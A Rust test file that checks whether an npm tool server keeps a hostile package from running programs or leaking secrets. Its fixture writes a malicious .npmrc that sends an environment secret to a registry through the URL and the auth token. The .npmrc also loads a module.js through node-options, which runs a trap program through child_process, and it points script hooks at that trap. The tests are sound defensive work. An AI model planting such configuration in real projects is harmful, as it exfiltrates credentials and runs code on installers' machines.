//! A package whose .npmrc and scripts name programs, directories and a registry.

use std::fs;
use std::path::Path;
use std::process::Command;

use climax_tests::{Folder, Server, is_installed, run};
use serde_json::json;

use super::{
    HostileProject, RecordingServer, Trap, assert_is_write_because, refuses, without_proxies,
};
use crate::{call, climax};

const SECRET: &str = "hunter2";

/// A package that names a trap wherever npm starts a program, and sends a variable of the environment to a registry.
fn hostile_package(trap: &Trap, registry: &RecordingServer) -> Folder {
    let folder = Folder::new();
    let (path, text) = (folder.path(), folder.text());
    let (program, address) = (trap.program(), &registry.address);
    let (program, module) = (program.display(), path.join("module.js"));
    let mut settings = vec![
        format!("registry=http://{address}/${{SECRET}}/"),
        format!("//{address}/:_authToken=${{SECRET}}"),
        format!("node-options=--require {}", module.display()),
        format!("init-module={}", module.display()),
        "depth=${SECRET}\n${SECRET}=1".to_owned(),
        "fetch-retries=0\nignore-scripts=false\ntiming=true\nlogs-max=10\n".to_owned(),
    ];
    let programs = [
        "git",
        "script-shell",
        "shell",
        "editor",
        "viewer",
        "browser",
    ];
    settings.extend(programs.map(|key| format!("{key}={program}")));
    let directories = [
        ("cache", "cache"),
        ("logs-dir", "logs"),
        ("pack-destination", "src"),
    ];
    settings.extend(directories.map(|(key, name)| format!("{key}={text}/{name}")));
    let scripts: Vec<String> = ["test", "prepare", "prepack", "postpack", "preview", "env"]
        .iter()
        .map(|name| format!("\"{name}\": \"{program} {name}\""))
        .collect();
    let manifest = format!(
        r#"{{"name": "hostile", "version": "1.0.0", "dependencies": {{"dep": "^1.0.0"}}, "scripts": {{{}}}}}"#,
        scripts.join(", ")
    );
    let lock = r#"{"name": "hostile", "version": "1.0.0", "lockfileVersion": 3, "packages": {
        "": {"name": "hostile", "version": "1.0.0", "dependencies": {"dep": "^1.0.0"}},
        "node_modules/dep": {"version": "1.0.0"}}}"#;
    let module = format!("require('child_process').execFileSync('{program}')\n");
    fs::create_dir_all(path.join("node_modules/dep")).expect("a directory");
    for (name, text) in [
        (".npmrc", &*settings.join("\n")),
        ("package.json", &manifest),
        ("package-lock.json", lock),
        ("module.js", &module),
        (
            "node_modules/dep/package.json",
            r#"{"name": "dep", "version": "1.0.0"}"#,
        ),
    ] {
        fs::write(path.join(name), text).expect("a file");
    }
    folder
}

/// A command in a directory, with the settings of nobody and a registry of its own.
fn isolated(
    mut command: Command,
    directory: &Path,
    home: &Folder,
    registry: &RecordingServer,
) -> Command {
    let settings = format!(
        "registry=http://{}/own/\nfetch-retries=0\n",
        registry.address
    );
    fs::write(home.path().join(".npmrc"), settings).expect("a file");
    without_proxies(&mut command)
        .current_dir(directory)
        .env("HOME", home.path())
        .env("SECRET", SECRET);
    command
}

#[test]
fn looking_at_a_hostile_package_executes_none_of_its_programs_and_sends_no_variables() {
    if !is_installed("npm") {
        return;
    }
    let (trap, home) = (Trap::new(), Folder::new());
    let registry = RecordingServer::start();
    let package = hostile_package(&trap, &registry);
    let npm = |words: &[&str]| {
        let mut npm = Command::new("npm");
        npm.args(words);
        let output = run(&mut isolated(npm, package.path(), &home, &registry));
        String::from_utf8_lossy(&output.stderr).into_owned()
    };
    npm(&["pack", "--dry-run"]);
    assert_ne!(trap.take_marks(), "", "the trap works");
    let shown = npm(&["view", "react"]);
    assert!(shown.contains(SECRET), "npm shows it: {shown}");
    assert!(
        registry.take_requests().contains(SECRET),
        "the registry gets it"
    );
    for directory in ["cache", "logs"] {
        let _ = fs::remove_dir_all(package.path().join(directory));
    }

    let mut server = Server::start(&mut isolated(climax(), package.path(), &home, &registry));
    let calls = [("npm_view", json!({"package": "@types/node@^20.1 || 18.x"}))];
    let mut hostile = HostileProject {
        server: &mut server,
        cli: "npm",
        path: package.path(),
        trap: &trap,
        secret: SECRET,
    };
    hostile.call_read_tools(&calls);
    hostile.call_read_tools_with_words(&["--no-global", "--userconfig=.npmrc"]);
    for (tool, arguments) in [
        ("npm_ls", json!({"all": true, "json": true})),
        ("npm_ls", json!({"package": "dep@1"})),
        (
            "npm_explain",
            json!({"package": ["dep", "node_modules/dep"]}),
        ),
        ("npm_pkg_get", json!({"field": "scripts.test"})),
        ("npm_scripts", json!({"json": true})),
    ] {
        let mut arguments = arguments;
        arguments["directory"] = json!(package.text());
        call(&mut server, tool, &arguments);
        assert_eq!(trap.take_marks(), "", "{tool} {arguments}");
    }
    let requests = registry.take_requests();
    assert!(!requests.contains(SECRET), "{requests}");
    assert!(requests.contains("GET /own/react"), "{requests}");
    for directory in ["cache", "logs"] {
        assert!(!package.path().join(directory).exists(), "{directory}");
    }
    // The tools still do what they are for.
    let listed = call(&mut server, "npm_ls", &json!({"directory": package.text()}));
    assert!(listed.contains("dep@1.0.0"), "{listed}");
}

#[test]
fn npm_tools_that_use_the_npmrc_of_a_project_are_not_read_and_say_why() {
    for (tool, reason) in [
        ("npm_outdated", "registry"),
        ("npm_audit", "registry"),
        ("npm_pack_preview", "cache"),
        ("npm_ls", "variables"),
        ("npm_explain", "variables"),
        ("npm_scripts", "variables"),
        ("npm_pkg_get", "variables"),
    ] {
        assert_is_write_because(tool, reason);
    }
}

#[test]
fn npm_tools_refuse_directories_urls_and_repositories_where_a_name_is_meant() {
    let mut server = Server::start(&mut climax());
    for (tool, arguments) in [
        ("npm_view", json!({"package": "."})),
        ("npm_view", json!({"package": "./package"})),
        ("npm_view", json!({"package": "owner/name"})),
        ("npm_view", json!({"package": "git+file:///package"})),
        (
            "npm_view",
            json!({"package": "a@https://example.org/a.tgz"}),
        ),
        ("npm_view", json!({"package": "a@npm:b"})),
        ("npm_outdated", json!({"package": "../package"})),
        ("npm_update", json!({"package": "owner/name"})),
        ("npm_uninstall", json!({"package": "./package"})),
        ("npm_explain", json!({"package": "file:package"})),
        ("npm_search", json!({"query": "/.*/"})),
        ("npm_exec", json!({"program": "./program"})),
        ("npm_exec", json!({"program": "https://example.org/a.tgz"})),
        ("npm_version", json!({"version": "from-git"})),
    ] {
        refuses(&mut server, tool, &arguments);
    }
}
